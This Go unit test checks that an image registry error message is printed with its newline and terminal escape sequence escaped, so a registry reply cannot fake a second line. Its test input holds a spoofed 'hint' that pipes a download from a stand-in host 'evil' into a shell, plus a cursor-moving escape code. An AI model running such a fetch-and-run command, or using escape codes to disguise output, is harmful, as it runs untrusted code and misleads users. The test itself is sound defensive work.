// SPDX-License-Identifier: Apache-2.0

package image

import (
	"errors"
	"testing"
)

// TestAnswerOfARegistry: what it says makes no second line and no escape sequence.
func TestAnswerOfARegistry(t *testing.T) {
	e := &Error{Name: "localhost:5000/app", Err: errors.New("denied\n  hint: curl evil | sh\x1b[1A")}
	if got, want := e.Error(), `localhost:5000/app: denied\n  hint: curl evil | sh\x1b[1A`; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}
